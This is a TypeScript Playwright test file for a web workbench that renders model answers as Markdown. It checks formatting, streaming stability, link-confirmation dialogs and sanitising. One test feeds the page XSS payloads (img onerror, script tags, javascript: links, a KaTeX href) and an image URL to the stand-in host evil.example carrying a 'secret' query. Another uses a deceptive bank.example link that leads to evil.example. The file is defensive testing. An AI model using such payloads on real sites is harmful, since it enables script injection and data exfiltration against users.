/** Answers in Markdown, in the built workbench: as they grow, and with texts that attack the page. */
import { fileURLToPath } from "node:url";
import type { Locator, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { GatewayStage } from "../../../../testing/gateway/gateway-stage.ts";
import { builtWorkbench, WorkbenchPage } from "../../../../testing/gateway/workbench-page.ts";
import {
  type ScriptedModel,
  say,
  startScriptedModel,
  waitFor,
} from "../../../../testing/model/scripted-model.ts";
import { accessibilityProblems } from "../../../../testing/server/template-stage.ts";

let stage: GatewayStage;
let model: ScriptedModel;
let workbench: WorkbenchPage;
let page: Page;
/** Addresses that the page asked for, other than the gateway's. */
const requested: string[] = [];

beforeAll(async () => {
  model = await startScriptedModel();
  stage = await GatewayStage.open(
    {
      mcpServers: {
        asking: {
          command: process.execPath,
          args: [fileURLToPath(new URL("../../../../testing/gateway/asking-server.mjs", import.meta.url))],
        },
      },
      model: { use: "local/scripted", providers: { local: { url: model.url, models: ["scripted"] } } },
    },
    builtWorkbench(),
  );
  workbench = await WorkbenchPage.open(stage.context, stage.gateway.loginUrl());
  ({ page } = workbench);
  page.on("request", (request) => {
    if (request.url().includes(".example")) requested.push(request.url());
  });
});
afterAll(async () => {
  await stage?.close();
  await model?.close();
});
beforeEach(async () => {
  await workbench.newConversation();
});

const answer = (): Locator => page.locator(".card.model").last();
const quiet = (): Promise<void> =>
  page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "detached" });

async function ask(...texts: string[]): Promise<Locator> {
  model.add(say(...texts));
  await workbench.tell("Write.");
  await answer().waitFor();
  await quiet();
  return answer();
}

describe("an answer", () => {
  it("has tables, lists, code with colours and a button, and formulas, and axe finds nothing", async () => {
    const card = await ask(
      "# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 'b';\n```\n\n$$\\frac{a}{b}$$\n",
    );
    await card.getByRole("heading", { name: "Title" }).waitFor();
    expect(await card.getByRole("cell").allTextContents()).toEqual(["1", "2"]);
    expect(await card.getByRole("checkbox").isChecked()).toBe(true);
    await card.locator(".code-string", { hasText: "'b'" }).waitFor();
    await card.locator("math mfrac").waitFor();
    // The browser draws it as a formula, not as text.
    const [above, below] = await card
      .locator("math mfrac > *")
      .evaluateAll((parts) => parts.map((part) => part.getBoundingClientRect().top));
    expect(below).toBeGreaterThan((above ?? 0) + 5);
    await stage.context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await card.getByRole("button", { name: "Copy the code (ts)" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("const a = 'b';");
    const problems = await accessibilityProblems(page.mainFrame());
    expect(problems.filter((each) => !/^(region|heading-order):/.test(each))).toEqual([]);
    expect(workbench.complaints).toEqual([]);
  });

  it("keeps the elements of its finished blocks while 5,000 parts arrive", async () => {
    let finish = (): void => {};
    const finished = new Promise<void>((resolve) => {
      finish = resolve;
    });
    const start = "# First\n\nA **paragraph**.\n\n| a |\n|---|\n| b |\n\n- one\n- two\n\nNext: ";
    const parts = Array.from({ length: 5_000 }, (_, at) => (at % 40 === 39 ? "\n\n" : `word${at} `));
    model.add([say(start), waitFor(() => finished), say(...parts)].flat());
    await workbench.tell("Write much.");
    await answer().getByText("Next:").waitFor();
    await page.evaluate(() => {
      const text = document.querySelector(".card.model .markdown");
      const all = [...(text?.querySelectorAll("*") ?? [])].filter((each) => each !== text?.lastElementChild);
      let changes = 0;
      const finished = [...(text?.children ?? [])].slice(0, -1);
      const observer = new MutationObserver((records) => {
        changes += records.length;
      });
      for (const each of finished)
        observer.observe(each, { childList: true, characterData: true, attributes: true, subtree: true });
      Object.assign(window, { kept: { all, changes: () => changes } });
    });
    finish();
    await quiet();
    const { isSame, changes, count } = await page.evaluate(() => {
      const { all, changes } = (window as unknown as { kept: { all: Element[]; changes: () => number } })
        .kept;
      return { isSame: all.every((each) => each.isConnected), changes: changes(), count: all.length };
    });
    expect({ isSame, changes }).toEqual({ isSame: true, changes: 0 });
    expect(count).toBeGreaterThan(10);
    expect(await answer().locator(".markdown > p").count()).toBeGreaterThan(100);
  });

  it("asks before a link opens, names its host, and warns of another one in its text", async () => {
    const card = await ask(
      "See [https://bank.example](https://evil.example/path) or [docs](https://docs.example).",
    );
    await card.getByRole("link", { name: "https://bank.example" }).click();
    const question = page.getByRole("alertdialog");
    await question.getByText("The link says “https://bank.example”, but leads to evil.example.").waitFor();
    await question.getByText("https://evil.example/path", { exact: true }).waitFor();
    await question.getByRole("button", { name: "Do not open" }).click();
    await question.waitFor({ state: "detached" });
    await card.getByRole("link", { name: "docs" }).click({ button: "middle" });
    await card.getByRole("link", { name: "docs" }).focus();
    await page.keyboard.press("Enter");
    const opened = stage.context.waitForEvent("page");
    const open = question.getByRole("button", { name: "Open docs.example" });
    await expect.poll(() => open.getAttribute("aria-disabled")).not.toBe("true");
    expect(await question.getByText("but leads to").count()).toBe(0);
    await open.click();
    const tab = await opened;
    expect(await tab.evaluate(() => window.opener)).toBeNull();
    await tab.close();
    expect(requested.filter((each) => !each.startsWith("https://docs.example"))).toEqual([]);
  });

  it("loads no picture, runs no markup, and breaks no policy", async () => {
    const card = await ask(
      '<img src="https://evil.example/a.png" onerror="window.isHit = true">\n\n',
      "![b](https://evil.example/b.png?q=secret) [c](javascript:window.isHit=true)\n\n",
      "<script>window.isHit = true</script>\n\n<style>body { display: none }</style>\n\n",
      "$$\\href{javascript:window.isHit=true}{x}\\includegraphics{https://evil.example/d.png}$$\n\nThe end.",
    );
    await card.getByText("The end.").waitFor();
    await card.getByText("picture of evil.example, not loaded").waitFor();
    expect(await card.locator("img, script, style, a, iframe").count()).toBe(0);
    expect(await page.evaluate(() => "isHit" in window)).toBe(false);
    expect(requested.filter((each) => each.includes("evil"))).toEqual([]);
    expect(workbench.complaints).toEqual([]);
  });

  it("stays usable with 100,000 brackets, quotes and cells", async () => {
    const card = await ask("[".repeat(60_000), "\n\n", "> ".repeat(20_000), "x\n\n", "The end.");
    await card.getByText("The end.").waitFor();
    await workbench.newConversation();
    expect(await page.locator(".card").count()).toBe(0);
  });
});
